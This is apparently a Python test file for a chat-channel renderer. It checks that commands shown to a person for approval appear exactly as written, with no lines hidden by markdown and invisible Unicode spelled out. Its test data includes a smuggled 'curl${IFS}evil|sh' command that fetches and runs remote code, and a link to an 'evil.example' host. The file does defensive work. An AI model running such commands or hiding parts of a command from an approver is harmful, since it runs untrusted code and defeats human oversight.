"""Foreign text that a person decides about is seen as it is."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.channels.telegram.render import SIZE, shown
from holdfast.core.splitting import split
from holdfast.core.verbatim import block, is_plain, span

HIDING = [
    "ls\n\n[a]: ;curl${IFS}evil|sh",
    "ls\n```\n[a]: x\n```",
    "ls <!-- x --> *a* \\*",
    "````\n[a]: x",
    "`" * 40 + "\n[a]: x",
]


def _plain(markdown: str) -> str:
    return "".join(shown(each).plain for each in split(markdown, SIZE.fits))


@pytest.mark.parametrize("command", HIDING)
def test_no_line_of_a_command_is_hidden_by_markup(command: str) -> None:
    """SECURITY 9: an approval is for the exact command."""
    assert "[a]:" not in command or "[a]:" in _plain(block(command))
    assert _plain(block(command)).replace("'", "`") == command.replace("'", "`")


@given(st.text(alphabet=st.sampled_from("ab`~[]:()\n #>*_\\<&"), max_size=80))
def test_no_text_ends_its_block(text: str) -> None:
    seen = [line.strip() for line in _plain(block(f"x{text}x")).splitlines() if line.strip()]
    assert [each.replace("'", "`") for each in seen] == [line.strip() for line in f"x{text}x".splitlines() if line.strip()]


def test_what_is_invisible_is_spelled() -> None:
    assert block("a\u202eb\u200b\0") == "```\na\\u202eb\\u200b\\u0000\n```"


@pytest.mark.parametrize(("text", "plain"), [("May I run it?", True), ("[x](y)", False), ("a_b_", False), ("x\ny", False)])
def test_what_markdown_shows_as_it_is(text: str, plain: bool) -> None:
    assert is_plain(text) is plain


def test_a_name_is_no_markup() -> None:
    assert span("[Ann](https://evil.example)\n`x`") == "`[Ann](https://evil.example) 'x'`"
    assert span("\u202e") == "` `"
